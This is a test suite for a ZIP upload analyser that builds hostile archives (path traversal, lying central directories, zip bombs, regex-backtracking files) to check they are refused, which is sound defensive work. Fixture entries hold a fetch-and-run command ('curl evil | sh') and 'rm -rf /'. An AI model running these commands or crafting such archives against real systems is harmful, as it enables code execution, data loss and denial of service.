import { makeZip, type ZipFileSpec } from '@market/sample-archives';
import { crc32, deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { analyseArchive, ArchiveRefused, type RandomAccessArchive } from './index.js';

/** An archive held in memory, read through range reads as one in storage, counting the bytes asked for. */
function archiveOf(bytes: Buffer): RandomAccessArchive & { bytesRead: number } {
  const archive = {
    size: bytes.length,
    bytesRead: 0,
    readRange: async (start: number, length: number) => {
      archive.bytesRead += length;
      return bytes.subarray(start, start + length);
    },
  };
  return archive;
}

const zipOf = (files: readonly ZipFileSpec[]) => archiveOf(makeZip(files));

/** One central record as a hostile writer states it; every field may lie. */
interface RawEntry {
  name: Buffer | string;
  data: Buffer;
  method?: number;
  flags?: number;
  crc?: number;
  compressedSize?: number;
  uncompressedSize?: number;
  localHeaderOffset?: number;
  extra?: Buffer;
}

/**
 * A ZIP written by hand: each entry's local header and data, then the central records, then the end
 * record, whose count, size and offset the test may override.
 */
function rawZip(entries: readonly RawEntry[], end: { count?: number; size?: number; offset?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.isBuffer(entry.name) ? entry.name : Buffer.from(entry.name, 'utf8');
    const extra = entry.extra ?? Buffer.alloc(0);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(entry.flags ?? 0x0800, 8);
    central.writeUInt16LE(entry.method ?? 0, 10);
    central.writeUInt32LE(entry.crc ?? crc32(entry.data), 16);
    central.writeUInt32LE(entry.compressedSize ?? entry.data.length, 20);
    central.writeUInt32LE(entry.uncompressedSize ?? entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt16LE(extra.length, 30);
    central.writeUInt32LE(entry.localHeaderOffset ?? offset, 42);
    if (entry.localHeaderOffset === undefined) {
      locals.push(local, name, entry.data);
      offset += local.length + name.length + entry.data.length;
    }
    centrals.push(central, name, extra);
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0);
  const record = Buffer.alloc(22);
  record.writeUInt32LE(0x06054b50, 0);
  record.writeUInt16LE(end.count ?? entries.length, 8);
  record.writeUInt16LE(end.count ?? entries.length, 10);
  record.writeUInt32LE(end.size ?? centralSize, 12);
  record.writeUInt32LE(end.offset ?? offset, 16);
  return Buffer.concat([...locals, ...centrals, record]);
}

/** The archive with a Zip64 end record (counting `count` entries) and its locator put before the end record. */
function withZip64End(plain: Buffer, count: bigint): Buffer {
  const zip64End = Buffer.alloc(56);
  zip64End.writeUInt32LE(0x06064b50, 0);
  zip64End.writeBigUInt64LE(44n, 4);
  zip64End.writeBigUInt64LE(count, 24);
  zip64End.writeBigUInt64LE(count, 32);
  zip64End.writeBigUInt64LE(BigInt(plain.readUInt32LE(plain.length - 10)), 40);
  zip64End.writeBigUInt64LE(BigInt(plain.readUInt32LE(plain.length - 6)), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(plain.length - 22), 8);
  return Buffer.concat([plain.subarray(0, -22), zip64End, locator, plain.subarray(-22)]);
}

async function refusal(archive: RandomAccessArchive): Promise<string> {
  const error = await analyseArchive(archive).then(
    () => null,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(ArchiveRefused);
  return (error as ArchiveRefused).message;
}

const pathsOf = async (archive: RandomAccessArchive) => (await analyseArchive(archive)).files.paths;

describe('a hostile central directory', () => {
  it('refuses an archive whose end record counts fewer entries than its central directory holds', async () => {
    // Info-ZIP and Python read every record there is, so an entry past the count would reach the buyer unchecked.
    const bytes = rawZip(
      [
        { name: 'README.md', data: Buffer.from('hello\n') },
        { name: '../../.bashrc', data: Buffer.from('curl evil | sh\n') },
      ],
      { count: 1 },
    );
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive could not be read as a ZIP: the end record miscounts the records of the central directory. Upload the project as a .zip made by a ZIP tool.',
    );
  });

  it('refuses an archive whose end record counts more entries than its central directory holds', async () => {
    const bytes = rawZip([{ name: 'README.md', data: Buffer.from('hello\n') }], { count: 3 });
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive could not be read as a ZIP: entry 2 has no central record. Upload the project as a .zip made by a ZIP tool.',
    );
  });

  it('refuses a central directory that does not end where the end record starts', async () => {
    // Unzip tools take the gap for bytes prepended to the archive and read the records at the end instead.
    const hidden = rawZip([{ name: '../escape.sh', data: Buffer.from('rm -rf /\n') }]);
    const honest = rawZip([{ name: 'README.md', data: Buffer.from('hello\n') }]);
    const honestEnd = honest.subarray(-22);
    const bytes = Buffer.concat([honest.subarray(0, -22), hidden.subarray(hidden.readUInt32LE(hidden.length - 6), -22), honestEnd]);
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive could not be read as a ZIP: the central directory does not end where its end record starts. Upload the project as a .zip made by a ZIP tool.',
    );
  });

  it('refuses a central directory said to lie beyond the end of the file', async () => {
    const bytes = rawZip([{ name: 'a.txt', data: Buffer.from('a') }], { offset: 0xfffffff0 - 100 });
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive could not be read as a ZIP: the central directory lies beyond the end of the file. Upload the project as a .zip made by a ZIP tool.',
    );
  });

  it('refuses a Zip64 field that says it is longer than the record holding it', async () => {
    const extra = Buffer.alloc(12);
    extra.writeUInt16LE(0x0001, 0);
    extra.writeUInt16LE(16, 2); // two sizes announced, one present
    extra.writeBigUInt64LE(5n, 4);
    const bytes = rawZip([{ name: 'a.txt', data: Buffer.from('hello'), compressedSize: 0xffffffff, uncompressedSize: 0xffffffff, extra }]);
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive could not be read as a ZIP: a Zip64 field is cut short. Upload the project as a .zip made by a ZIP tool.',
    );
  });

  it('refuses Zip64 sizes beyond what a number holds, and a Zip64 entry count in the trillions', async () => {
    const extra = Buffer.alloc(20);
    extra.writeUInt16LE(0x0001, 0);
    extra.writeUInt16LE(16, 2);
    extra.writeBigUInt64LE(0xffffffffffffffffn, 4);
    extra.writeBigUInt64LE(5n, 12);
    const huge = rawZip([{ name: 'a.txt', data: Buffer.from('hello'), compressedSize: 0xffffffff, uncompressedSize: 0xffffffff, extra }]);
    expect(await refusal(archiveOf(huge))).toBe(
      'The archive could not be read as a ZIP: a size or offset is out of range. Upload the project as a .zip made by a ZIP tool.',
    );

    const lotsOf = withZip64End(rawZip([{ name: 'a.txt', data: Buffer.from('hello') }], { count: 0xffff }), 2n ** 40n);
    expect(await refusal(archiveOf(lotsOf))).toBe(
      'The archive has 1,099,511,627,776 entries; at most 50,000 are analysed. Leave out the folders your tools rebuild (Library/, Temp/, build/, Pods/, node_modules/) and upload it again.',
    );
  });

  it('reads the Zip64 end record Info-ZIP writes for a streamed entry though the end record does not overflow', async () => {
    const bytes = withZip64End(rawZip([{ name: 'src/Game.cs', data: Buffer.from('class Game {}\n') }]), 1n);
    expect(await pathsOf(archiveOf(bytes))).toEqual(['src/Game.cs']);
  });

  it('refuses files of 0 and 21 bytes, and an archive cut in the middle of its central directory, as no ZIP', async () => {
    expect(await refusal(archiveOf(Buffer.alloc(0)))).toBe(
      'The archive could not be read as a ZIP: no end of central directory record. Upload the project as a .zip made by a ZIP tool.',
    );
    expect(await refusal(archiveOf(Buffer.alloc(21)))).toBe(
      'The archive could not be read as a ZIP: no end of central directory record. Upload the project as a .zip made by a ZIP tool.',
    );
    const whole = makeZip([
      { name: 'a.txt', content: 'a' },
      { name: 'b.txt', content: 'b' },
    ]);
    const centralStart = whole.readUInt32LE(whole.length - 6);
    const cut = whole.subarray(0, centralStart + 50);
    expect(await refusal(archiveOf(cut))).toBe(
      'The archive could not be read as a ZIP: no end of central directory record. Upload the project as a .zip made by a ZIP tool.',
    );
    // The end record kept, the middle of the directory gone.
    const holed = Buffer.concat([whole.subarray(0, centralStart + 50), whole.subarray(-22)]);
    expect(await refusal(archiveOf(holed))).toMatch(/^The archive could not be read as a ZIP: /);
  });
});

describe('hostile entry names', () => {
  it.each([
    [
      '..\\..\\evil.dll',
      '../../evil.dll points outside the archive. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    ],
    [
      'Assets\\..\\..\\evil.dll',
      'Assets/../../evil.dll points outside the archive. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    ],
    [
      'C:/Windows/evil.dll',
      'C:/Windows/evil.dll has an absolute path. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    ],
    [
      'C:evil.dll',
      'C:evil.dll has an absolute path. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    ],
    ['/', '/ has an absolute path. Zip the project again from its own folder, with the paths inside it, and upload it again.'],
    [
      '\\\\server\\share\\x',
      '//server/share/x has an absolute path. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    ],
    ['a.txt\0.png', 'An entry name holds a NUL character. Zip the project again and upload it again.'],
  ])('refuses an entry named %j', async (name, reason) => {
    expect(await refusal(zipOf([{ name, content: 'x' }]))).toBe(reason);
  });

  it('names a refused entry readably however long its name or whatever control characters it holds', async () => {
    const long = `${'deep/'.repeat(10_000)}../x`;
    const longReason = await refusal(zipOf([{ name: long, content: 'x' }]));
    expect(longReason).toMatch(/^deep\/deep\/.*… points outside the archive\. Zip the project again/);
    expect(longReason.length).toBeLessThan(250);

    const spoofing = await refusal(zipOf([{ name: '\u001b[2Jdocs\u202eexe.txt/../../x', content: 'x' }]));
    expect(spoofing).toBe(
      '�[2Jdocs�exe.txt/../../x points outside the archive. Zip the project again from its own folder, with the paths inside it, and upload it again.',
    );
  });

  it('takes a ./ entry, as Python’s make_archive writes, for the root folder rather than a file without a name', async () => {
    const analysis = await analyseArchive(
      zipOf([
        { name: './', content: '' },
        { name: './src/', content: '' },
        { name: './src/Game.cs', content: 'class Game {}\n' },
      ]),
    );
    expect(analysis.files).toMatchObject({ count: 1, folders: 1, paths: ['src/Game.cs'] });
  });

  it.each(['', '.', './.'])('refuses a file entry with no name left (%j)', async (name) => {
    expect(await refusal(zipOf([{ name, content: 'x' }]))).toBe('An entry has no name. Zip the project again and upload it again.');
  });

  it('reads a name without the UTF-8 flag as Latin-1, high bytes and all', async () => {
    const bytes = rawZip([{ name: Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x2e, 0x74, 0x78, 0x74]), data: Buffer.from('x'), flags: 0 }]);
    expect(await pathsOf(archiveOf(bytes))).toEqual(['café.txt']);
  });

  it('reads an invalid UTF-8 name with replacement characters rather than failing', async () => {
    const bytes = rawZip([{ name: Buffer.from([0x61, 0xff, 0xfe, 0x2e, 0x63, 0x73]), data: Buffer.from('x') }]);
    expect(await pathsOf(archiveOf(bytes))).toEqual(['a\uFFFD\uFFFD.cs']);
  });
});

describe('entries that lie about their data', () => {
  it('refuses a local header whose name and extra lengths point past the end of the file', async () => {
    const bytes = rawZip([{ name: 'a.txt', data: Buffer.from('hello') }]);
    bytes.writeUInt16LE(0xffff, 26);
    bytes.writeUInt16LE(0xffff, 28);
    expect(await refusal(archiveOf(bytes))).toBe('The archive is damaged: a.txt is cut short. Zip the project again and upload it again.');
  });

  it('refuses an entry whose compressed size runs past the end of the file', async () => {
    const bytes = rawZip([{ name: 'a.txt', data: Buffer.from('hello'), compressedSize: 1_000_000 }]);
    expect(await refusal(archiveOf(bytes))).toBe('The archive is damaged: a.txt is cut short. Zip the project again and upload it again.');
  });

  it('refuses an entry whose local header lies beyond the file, or is not a local header', async () => {
    const far = rawZip([
      { name: 'a.txt', data: Buffer.from('hello') },
      { name: 'b.txt', data: Buffer.from('hello'), localHeaderOffset: 0x7fffffff },
    ]);
    expect(await refusal(archiveOf(far))).toBe(
      'The archive is damaged: b.txt has no local header. Zip the project again and upload it again.',
    );
    const sideways = rawZip([
      { name: 'a.txt', data: Buffer.from('hello') },
      { name: 'b.txt', data: Buffer.from('hello'), localHeaderOffset: 3 },
    ]);
    expect(await refusal(archiveOf(sideways))).toBe(
      'The archive is damaged: b.txt has no local header. Zip the project again and upload it again.',
    );
  });

  it('never inflates a small deflated entry beyond the size its record states', async () => {
    const real = Buffer.alloc(900_000, 'a');
    const bytes = rawZip([{ name: 'a.txt', data: deflateRawSync(real), method: 8, crc: crc32(real), uncompressedSize: 10 }]);
    expect(await refusal(archiveOf(bytes))).toMatch(/^The archive is damaged: a\.txt does not inflate \(/);
  });

  it('stops inflating a large streamed entry as soon as it passes the size its record states', async () => {
    // Recorded as 1.5 MB (streamed, under the ratio guard at 200×), inflating to 300 MB.
    const real = Buffer.alloc(300 * 1024 ** 2, 'a');
    const packed = deflateRawSync(real);
    const recorded = 1.5 * 1024 ** 2;
    expect(recorded / packed.length).toBeLessThan(200);
    const bytes = rawZip([{ name: 'Big.cs', data: packed, method: 8, crc: 0, uncompressedSize: recorded }]);
    const before = process.memoryUsage().arrayBuffers;
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive is damaged: Big.cs inflates beyond its recorded size. Zip the project again and upload it again.',
    );
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(64 * 1024 ** 2);
  });

  it('refuses a stored entry whose bytes do not match its checksum', async () => {
    const bytes = rawZip([{ name: 'a.txt', data: Buffer.from('hello'), crc: 1234 }]);
    expect(await refusal(archiveOf(bytes))).toBe(
      'The archive is damaged: a.txt does not match its recorded size and checksum. Zip the project again and upload it again.',
    );
  });
});

const tinyFiles = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `f/${index}.bin`, content: Buffer.from([1]) }));

describe('zip bombs', () => {
  it('refuses overlapping entries that all point at one deflated kernel once their sizes pass 2 GB, reading the kernel no more', async () => {
    // The non-recursive zip bomb: one 1 MB-ish kernel of highly compressible data, 3,000 records pointing at it.
    const kernel = Buffer.alloc(1024 ** 2 - 1, ' ');
    const packed = deflateRawSync(kernel);
    const local = rawZip([{ name: 'k.txt', data: packed, method: 8, crc: crc32(kernel), uncompressedSize: kernel.length }]);
    const entries: RawEntry[] = Array.from({ length: 3000 }, (_, index) => ({
      name: `copy${index}.bin`,
      data: packed,
      method: 8,
      crc: crc32(kernel),
      uncompressedSize: kernel.length,
      localHeaderOffset: 0,
    }));
    const directory = rawZip(entries, { offset: 30 + 5 + packed.length });
    const bytes = Buffer.concat([local.subarray(0, 30 + 5 + packed.length), directory]);
    const archive = archiveOf(bytes);
    expect(await refusal(archive)).toBe(
      'The archive unpacks to more than 2,048 MB, the most analysed; its largest file is copy0.bin (1 MB). ' +
        'Leave out the folders your tools rebuild (Library/, Temp/, build/, Pods/, node_modules/), keep videos and builds apart, and upload it again.',
    );
    expect(archive.bytesRead).toBeLessThan(4 * 1024 ** 2);
  });

  it('refuses one entry announcing more than deflate can ever unpack to, without inflating it', async () => {
    const bytes = rawZip([{ name: 'bomb.bin', data: Buffer.alloc(10), method: 8, uncompressedSize: 1024 ** 3 }]);
    const archive = archiveOf(bytes);
    expect(await refusal(archive)).toBe(
      "bomb.bin says it unpacks to 107,374,182 times its packed size, more than ZIP's deflate can reach, so the archive was altered after it was made. " +
        'Zip the project again with an ordinary ZIP tool and upload it again.',
    );
  });

  it('reads an honest deflated entry packed as far as deflate goes: 20 MB of zeros, 1,030 times over', async () => {
    const analysis = await analyseArchive(
      zipOf([{ name: 'Assets/Terrain/heights.raw', content: Buffer.alloc(20 * 1024 ** 2), deflate: true }]),
    );
    expect(analysis.files.totalBytes).toBe(20 * 1024 ** 2);
  });

  it('tells how many entries it has read of all, from none to every one, never going back', async () => {
    const heard: Array<[number, number]> = [];
    await analyseArchive(zipOf(tinyFiles(30_000)), { progress: (read, total) => heard.push([read, total]) });
    expect(heard[0]).toEqual([0, 30_000]);
    expect(heard.at(-1)).toEqual([30_000, 30_000]);
    expect(heard.every(([read], index) => index === 0 || read >= heard[index - 1]![0])).toBe(true);
  });

  it('reads 50,000 tiny entries and refuses 50,001', async () => {
    const analysis = await analyseArchive(zipOf(tinyFiles(50_000)));
    expect(analysis.files.count).toBe(50_000);
    expect(await refusal(zipOf(tinyFiles(50_001)))).toBe(
      'The archive has 50,001 entries; at most 50,000 are analysed. Leave out the folders your tools rebuild (Library/, Temp/, build/, Pods/, node_modules/) and upload it again.',
    );
  });
});

describe('what the analysis reads of an entry', () => {
  it('scans a text file of 1 MB for secrets but only counts the lines of one a byte longer', async () => {
    const key = 'AKIAIOSFODNN7EXAMPLE';
    const padded = (size: number) => `${key}\n`.padEnd(size, '#');
    const analysis = await analyseArchive(
      zipOf([
        { name: 'scanned.json', content: padded(1024 ** 2) },
        { name: 'streamed.json', content: padded(1024 ** 2 + 1) },
      ]),
    );
    expect(analysis.warnings.map((warning) => warning.path)).toEqual(['scanned.json']);
  });
});

describe('storage failing under the analysis', () => {
  it('rejects with the storage error itself, never a refusal, so the job tries again', async () => {
    const bytes = makeZip([{ name: 'a.txt', content: 'hello' }]);
    const failure = new Error('connection reset');
    const archive: RandomAccessArchive = { size: bytes.length, readRange: async () => Promise.reject(failure) };
    await expect(analyseArchive(archive)).rejects.toBe(failure);
  });

  it('rejects with the storage error when it fails while a large entry is streamed', async () => {
    const big = Buffer.alloc(3 * 1024 ** 2, 'a\n');
    const bytes = makeZip([{ name: 'Big.cs', content: big }]);
    const failure = new Error('socket hang up');
    const archive: RandomAccessArchive = {
      size: bytes.length,
      readRange: async (start, length) => {
        // The second block holds the middle of the entry, never the central directory.
        if (start === 1024 ** 2) throw failure;
        return bytes.subarray(start, start + length);
      },
    };
    await expect(analyseArchive(archive)).rejects.toBe(failure);
  });
});

/** As large as a file read whole for the detectors may be while still deflating freely (under the ratio guard's 1 MB). */
const SCANNED = 1024 ** 2 - 1;
const filled = (prefix: string, unit: string, suffix = '') =>
  prefix + unit.repeat(Math.floor((SCANNED - prefix.length - suffix.length) / unit.length)) + suffix;

describe('detector files written to make a regular expression backtrack', () => {
  // Each file is as large as the detectors read, deflated to a few kilobytes; a pattern that backtracks
  // quadratically over it blocks the instance's event loop for minutes (measured before the fix).
  const gradle = 'plugins { id "com.android.application" }\nandroid { compileSdk 34 }\n';
  it.each<[string, ZipFileSpec[]]>([
    ['newlines in pubspec.yaml', [{ name: 'pubspec.yaml', content: filled('', '\n') }]],
    ['newlines in a Podfile', [{ name: 'Podfile', content: filled('', '\n') }]],
    ['unclosed pod names in a Podfile', [{ name: 'Podfile', content: filled('', "pod 'a\n") }]],
    ['newlines in build.gradle', [{ name: 'build.gradle', content: filled(gradle, '\n') }]],
    ['spaces after id in build.gradle', [{ name: 'build.gradle', content: filled(`${gradle}id`, ' ') }]],
    ['spaces after implementation in build.gradle', [{ name: 'build.gradle', content: filled(`${gradle}implementation`, ' ') }]],
    ['unclosed dependencies in build.gradle', [{ name: 'build.gradle', content: filled(gradle, "implementation 'a:b:c\n") }]],
    ['spaces after a named dependency in build.gradle', [{ name: 'build.gradle', content: filled(`${gradle}classpath deps`, ' ', 'x') }]],
    ['a long word in an ext map of versions.gradle', [{ name: 'versions.gradle', content: filled('ext.versions = [', 'x') }]],
    ['a long word in an ext block of build.gradle', [{ name: 'build.gradle', content: filled(`${gradle}ext {\n`, 'x') }]],
    [
      'newlines in libs.versions.toml',
      [
        { name: 'build.gradle', content: gradle },
        { name: 'gradle/libs.versions.toml', content: filled('', '\n') },
      ],
    ],
    [
      'a long version in gradle-wrapper.properties',
      [{ name: 'gradle/wrapper/gradle-wrapper.properties', content: filled('gradle-', '1') }],
    ],
    [
      'repeated unclosed feature lists in project.godot',
      [{ name: 'project.godot', content: filled('', 'config/features=PackedStringArray(') }],
    ],
    ['repeated unclosed names in project.godot', [{ name: 'project.godot', content: filled('', 'config/name="\n') }]],
  ])('analyses %s without backtracking over it', async (_, files) => {
    // No stopwatch here (speed is the benchmark's): a pattern backtracking over a megabyte takes
    // minutes, so it fails on the test timeout, and the analysis still names every file.
    const analysis = await analyseArchive(zipOf(files.map((file) => ({ ...file, deflate: true }))));
    expect(analysis.files.count).toBe(files.length);
  });
});

describe('a .gitattributes written to make every path cost', () => {
  it('analyses 20,000 files under thousands of rules and a pattern of many wildcards without stalling', async () => {
    // No stopwatch (speed is the benchmark's): unbounded, this runs for minutes and fails on the test timeout.
    const rules = Array.from({ length: 5_000 }, (_, index) =>
      index % 2 === 0 ? `src/**/module${index}/*.js linguist-vendored` : `src/generated/file${index}.js linguist-generated`,
    );
    const wildcards = `${'*a'.repeat(40)}* linguist-generated`;
    const files: ZipFileSpec[] = [
      { name: '.gitattributes', content: `${[...rules, wildcards].join('\n')}\n` },
      ...Array.from({ length: 20_000 }, (_, index) => ({ name: `src/${'a'.repeat(120)}/f${index}.js`, content: 'let a = 1;\n' })),
    ];
    const analysis = await analyseArchive(zipOf(files));
    expect(analysis.languages.map((language) => [language.name, language.files])).toEqual([['JavaScript', 20_000]]);
  });
});

describe('texts kept for the detectors', () => {
  it('holds at most 32 MB of manifest texts until the end however many an archive repeats, and still names every licence', async () => {
    // 1 MB - 1 byte of text deflates to about a kilobyte under the ratio guard: 2,000 such manifests
    // would be 2 GB of strings held at once from a 2 MB archive.
    const files = Array.from({ length: 40 }, (_, index) => [
      { name: `lib${index}/package.json`, content: filled('', ' '), deflate: true },
      { name: `lib${index}/LICENSE`, content: filled('', 'x'), deflate: true },
    ]).flat();
    const analysis = await analyseArchive(zipOf(files));
    expect(analysis.files.count).toBe(80);
    expect(analysis.manifests).toHaveLength(32);
    expect(analysis.licences).toHaveLength(40);
  });
});
